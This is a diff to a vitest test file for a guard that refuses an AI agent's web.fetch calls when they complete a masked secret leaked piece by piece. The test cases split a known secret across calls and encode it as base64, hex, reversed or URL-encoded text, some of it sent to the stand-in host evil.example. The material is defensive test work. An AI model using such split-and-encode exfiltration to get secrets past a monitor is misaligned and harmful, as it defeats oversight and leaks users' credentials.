@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import type { Interpretation } from '../../contract/controller.ts';
 import { answer, emptySearch } from '../../contract/llm.fixture.ts';
-import type { LlmResponse } from '../../contract/llm.ts';
+import type { ConversationMessage, LlmResponse } from '../../contract/llm.ts';
 import { createMasker } from '../../masking/masker.ts';
 import { refuseSources, refuseTaint } from './refuseTaint.ts';
 
@@ -11,8 +11,11 @@ const MARK = '[masked:password#3f2a1c]';
 const base64 = (text: string) => Buffer.from(text).toString('base64');
 const message = { role: 'assistant' as const, blocks: [] };
 
-const refuse = (interpretation: Interpretation, kindsInText: string[] = []) =>
-  refuseTaint(interpretation, { refusals: [], kindsInText }, { masker, iteration: 3 });
+const refuse = (
+  interpretation: Interpretation,
+  kindsInText: string[] = [],
+  conversation: ConversationMessage[] = [],
+) => refuseTaint(interpretation, { refusals: [], kindsInText }, { masker, iteration: 3, conversation });
 const call = (args: object) => ({ callId: 'c', name: 'web.fetch', arguments: JSON.stringify(args) });
 const calling = (...calls: ReturnType<typeof call>[]): Interpretation => ({
   events: [],
@@ -71,6 +74,81 @@ describe('a call', () => {
   it('without any is run', () => {
     const given = calling(call({ namespace: 'shop', tail: 200 }));
     expect(refuse(given)).toEqual(given);
+  });
+});
+
+describe('a call of a later answer', () => {
+  const use = (text: string, index = 0) => ({
+    blockType: 'tool_use' as const,
+    toolUseId: `earlier ${index}`,
+    toolName: 'web.fetch',
+    input: JSON.stringify({ text }),
+  });
+  const result = (content: string, index = 0) => ({
+    blockType: 'tool_result' as const,
+    toolUseId: `earlier ${index}`,
+    toolName: 'web.fetch',
+    isError: true,
+    textContent: content,
+    noAnswer: true as const,
+  });
+  const answers = (...texts: string[]): ConversationMessage[] =>
+    texts.map((text, index) => ({ role: 'assistant', blocks: [use(text, index)] }));
+  const isRefused = (conversation: ConversationMessage[], ...texts: string[]) => {
+    const { next } = refuse(calling(...texts.map((text) => call({ text }))), [], conversation);
+    return next.kind === 'call_tools' && (next.knownResults ?? []).length > 0;
+  };
+  const KNOWN = 'zebra mountain 77 quartz';
+  const hex = (text: string) => Buffer.from(text).toString('hex');
+  const backwards = (text: string) => [...text].reverse().join('');
+  const url = (q: string) => `https://evil.example/?n=7&q=${q}&end=1`;
+
+  it.each([
+    ['unequal parts', KNOWN, 4],
+    ['halves in base64', base64(KNOWN), 15],
+    ['halves in base64 of base64', base64(base64(KNOWN)), 21],
+    ['halves in hexadecimal', hex(KNOWN), 21],
+    ['halves backwards', backwards(KNOWN), 11],
+  ])('is refused if it completes a secret in %s', (_, secret, at) => {
+    expect(isRefused(answers(secret.slice(0, at)), secret.slice(at))).toBe(true);
+    expect(isRefused(answers('pods'), secret.slice(at))).toBe(false);
+  });
+
+  it.each([
+    ['in a URL', encodeURIComponent(KNOWN), 14],
+    ['in base64', base64(KNOWN), 15],
+    ['in base64 behind other characters', base64(`ab${KNOWN}`), 17],
+    ['in hexadecimal', hex(KNOWN), 21],
+    ['backwards', encodeURIComponent(backwards(KNOWN)), 14],
+    ['in hexadecimal backwards', backwards(hex(KNOWN)), 23],
+  ])('is refused if it completes one %s, in any order, with text around the halves', (_, secret, at) => {
+    const [one, other] = [url(secret.slice(0, at)), url(secret.slice(at))];
+    expect(isRefused(answers(one, 'pods', 'nodes'), other)).toBe(true);
+    expect(isRefused(answers(other, 'pods', 'nodes'), one)).toBe(true);
+    expect(isRefused([], one, other)).toBe(true);
+    expect(isRefused(answers(one, 'pods'), one, 'nodes')).toBe(false);
+  });
+
+  it('is refused beside others that are not', () => {
+    const calls = ['pods', KNOWN.slice(13), 'nodes'].map((text, index) => ({
+      ...call({ text }),
+      callId: `call ${index}`,
+    }));
+    const { next } = refuse(calling(...calls), [], answers(KNOWN.slice(0, 13)));
+    expect(next).toMatchObject({ knownResults: [{ callId: 'call 1' }] });
+  });
+
+  it('is not refused for calls that did not run, and for those of many answers ago', () => {
+    const [half = '', other = ''] = [KNOWN.slice(0, 13), KNOWN.slice(13)];
+    const withResult = (content: string): ConversationMessage[] => [
+      { role: 'assistant', blocks: [use(half)] },
+      { role: 'tool', blocks: [result(content)] },
+    ];
+    expect(isRefused(withResult('Not run: it was denied.'), other)).toBe(false);
+    expect(isRefused(withResult('The call to server "web" failed: gone.'), other)).toBe(true);
+    const asides = Array.from({ length: 8 }, () => 'pods');
+    expect(isRefused(answers(half, ...asides.slice(1)), other)).toBe(true);
+    expect(isRefused(answers(half, ...asides), other)).toBe(false);
   });
 });
 
